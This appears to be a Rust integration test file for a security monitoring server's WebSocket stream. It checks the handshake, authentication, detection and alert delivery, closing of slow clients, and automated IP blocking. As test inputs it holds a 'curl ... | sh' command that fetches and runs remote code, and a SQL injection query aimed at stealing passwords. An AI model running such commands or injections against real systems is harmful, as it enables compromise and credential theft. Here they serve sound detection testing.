//! The live stream through the real server: a WebSocket opened with the API key as a
//! subprotocol (as browsers must) receives the detection and the alert an ingested event
//! makes, and the incident and the playbook action it leads to; a client that stops
//! reading is closed with 1013 rather than buffered for.
//! The client side here is written from RFC 6455 independently of the server's code.

mod common;

use common::{Server, http};
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// Opens a WebSocket to `path` with `headers`; the HTTP answer's head and the stream.
fn open(server: &Server, path: &str, headers: &[(&str, &str)]) -> (String, TcpStream) {
    let addr = server.base.trim_start_matches("http://");
    let mut tcp = TcpStream::connect(addr).unwrap();
    tcp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut request = format!(
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    );
    for (name, value) in headers {
        request.push_str(&format!("{name}: {value}\r\n"));
    }
    request.push_str("\r\n");
    tcp.write_all(request.as_bytes()).unwrap();
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        tcp.read_exact(&mut byte).unwrap();
        head.push(byte[0]);
    }
    (String::from_utf8(head).unwrap(), tcp)
}

/// Reads one server frame: (opcode, payload). Server frames are not masked.
fn frame(tcp: &mut TcpStream) -> std::io::Result<(u8, Vec<u8>)> {
    let mut head = [0u8; 2];
    tcp.read_exact(&mut head)?;
    assert_eq!(head[1] & 0x80, 0, "server frames are unmasked");
    let len = match head[1] & 0x7f {
        126 => {
            let mut b = [0u8; 2];
            tcp.read_exact(&mut b)?;
            u64::from(u16::from_be_bytes(b))
        }
        127 => {
            let mut b = [0u8; 8];
            tcp.read_exact(&mut b)?;
            u64::from_be_bytes(b)
        }
        n => u64::from(n),
    };
    let mut payload = vec![0u8; len as usize];
    tcp.read_exact(&mut payload)?;
    Ok((head[0] & 0x0f, payload))
}

/// The next text message as JSON, skipping pings.
fn message(tcp: &mut TcpStream) -> Value {
    loop {
        let (opcode, payload) = frame(tcp).unwrap();
        match opcode {
            0x1 => return serde_json::from_slice(&payload).unwrap(),
            0x9 => continue,
            other => panic!("opcode {other}: {}", String::from_utf8_lossy(&payload)),
        }
    }
}

fn admin_key(dir: &std::path::Path) -> String {
    std::fs::read_to_string(dir.join("watchpost-data/admin-api-key"))
        .unwrap()
        .trim()
        .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ingested_attack_reaches_the_stream_as_a_detection_and_an_alert() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let key = admin_key(dir.path());

    // No key: refused before any upgrade.
    let (head, _) = open(&server, "/api/v1/stream", &[]);
    assert!(head.starts_with("HTTP/1.1 401"), "{head}");
    let (head, _) = open(
        &server,
        "/api/v1/stream?topics=alerts,gossip",
        &[("X-API-Key", &key)],
    );
    assert!(head.starts_with("HTTP/1.1 400"), "{head}");

    let protocols = format!("watchpost, {key}");
    let (head, mut tcp) = open(
        &server,
        "/api/v1/stream?topics=detections,alerts",
        &[("Sec-WebSocket-Protocol", &protocols)],
    );
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    let lower = head.to_ascii_lowercase();
    // RFC 6455, 1.3: the accept value for the sample nonce.
    assert!(
        lower.contains("sec-websocket-accept: s3pplmbitxaq9kygzzhzrbk+xoo="),
        "{head}"
    );
    assert!(
        lower.contains("sec-websocket-protocol: watchpost"),
        "{head}"
    );
    let hello = message(&mut tcp);
    assert_eq!(hello["topic"], "hello");
    assert_eq!(hello["data"]["topics"], json!(["detections", "alerts"]));

    let posted = http()
        .post(server.url("/api/v1/events"))
        .header("x-api-key", &key)
        .json(&json!([{"host": {"name": "web-7"}, "event": {"category": ["process"], "action": "exec"},
                       "process": {"pid": 77, "command_line": "sh -c 'curl -s http://203.0.113.7/x | sh'"}}]))
        .send()
        .await
        .unwrap();
    assert_eq!(posted.status(), 200);
    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    while Instant::now() < deadline
        && !(seen.contains(&"detections".to_string()) && seen.contains(&"alerts".to_string()))
    {
        let m = message(&mut tcp);
        assert_eq!(m["data"]["host"], "web-7", "{m}");
        seen.push(m["topic"].as_str().unwrap().to_string());
    }
    assert_eq!(
        seen.first().map(String::as_str),
        Some("detections"),
        "{seen:?}"
    );
    assert!(seen.contains(&"alerts".to_string()), "{seen:?}");

    // A clean close is answered with a close.
    tcp.write_all(&[0x88, 0x82, 1, 2, 3, 4, 0x03 ^ 1, 0xe8 ^ 2])
        .unwrap();
    loop {
        let (opcode, payload) = frame(&mut tcp).unwrap();
        if opcode == 0x8 {
            assert_eq!(&payload[..2], &1000u16.to_be_bytes());
            break;
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_stops_reading_is_closed_not_buffered_for() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_authenticated(dir.path());
    let key = admin_key(dir.path());
    let (head, mut slow) = open(
        &server,
        "/api/v1/stream?topics=detections",
        &[("X-API-Key", &key)],
    );
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    // The client reads nothing while thousands of detections are made: more than the
    // socket buffers hold and more than the server keeps for one client.
    let client = http();
    for round in 0..6 {
        let events: Vec<Value> = (0..2000)
            .map(|i| json!({"host": {"name": format!("h{round}-{i}")},
                            "event": {"category": ["process"], "action": "exec"},
                            "process": {"pid": i, "command_line": format!("sh -c 'curl -s http://203.0.113.7/{i} | sh' {}", "x".repeat(600))}}))
            .collect();
        let posted = client
            .post(server.url("/api/v1/events"))
            .header("x-api-key", &key)
            .json(&events)
            .send()
            .await
            .unwrap();
        assert_eq!(posted.status(), 200);
    }
    // What the socket held arrives, then the close with its reason, then the end.
    let started = Instant::now();
    let mut close = None;
    while started.elapsed() < Duration::from_secs(60) {
        match frame(&mut slow) {
            Ok((0x8, payload)) => {
                close = Some(payload);
                break;
            }
            Ok(_) => {}
            Err(e) => panic!("the stream ended without a close frame: {e}"),
        }
    }
    let close = close.expect("a close frame");
    assert_eq!(&close[..2], &1013u16.to_be_bytes());
    let reason = String::from_utf8_lossy(&close[2..]);
    assert!(reason.contains("too slow"), "{reason}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn incidents_and_response_actions_reach_the_stream_as_they_change() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(
        &config,
        "[[response.playbooks]]\nname = \"ban\"\nmode = \"auto\"\n\
         matchers = ['detector=\"web\"']\nactions = [{ kind = \"block_address\", ttl = \"1h\" }]\n",
    )
    .unwrap();
    let server =
        Server::start_authenticated_with_flags(dir.path(), &["--config", config.to_str().unwrap()]);
    let key = admin_key(dir.path());
    let (head, mut tcp) = open(
        &server,
        "/api/v1/stream?topics=incidents,actions",
        &[("X-API-Key", &key)],
    );
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    assert_eq!(
        message(&mut tcp)["data"]["topics"],
        json!(["incidents", "actions"])
    );
    let analyzed = http()
        .post(server.url("/api/v1/ids/analyze"))
        .header("x-api-key", &key)
        .json(&json!({"method": "GET", "path": "/search",
                      "query": "q=1%27%20union%20select%20password%20from%20users--",
                      "client_ip": "203.0.113.71", "headers": {"host": "shop.example"}}))
        .send()
        .await
        .unwrap();
    assert_eq!(analyzed.status(), 200);
    let (mut incident, mut done) = (None, None);
    let deadline = Instant::now() + Duration::from_secs(10);
    while Instant::now() < deadline && (incident.is_none() || done.is_none()) {
        let m = message(&mut tcp);
        match m["topic"].as_str() {
            Some("incidents") => incident = Some(m["data"].clone()),
            Some("actions") if m["data"]["state"] == "done" => done = Some(m["data"].clone()),
            Some("actions") => {}
            other => panic!("a topic not asked for: {other:?}"),
        }
    }
    let incident = incident.expect("the incident on the stream");
    assert!(
        incident["entities"]
            .as_array()
            .unwrap()
            .contains(&json!("ip:203.0.113.71")),
        "{incident}"
    );
    let done = done.expect("the ban on the stream, done");
    assert_eq!(done["kind"], "block_address");
    assert_eq!(done["target"]["ip"], "203.0.113.71");
    assert_eq!(done["incident_id"], incident["id"]);
}
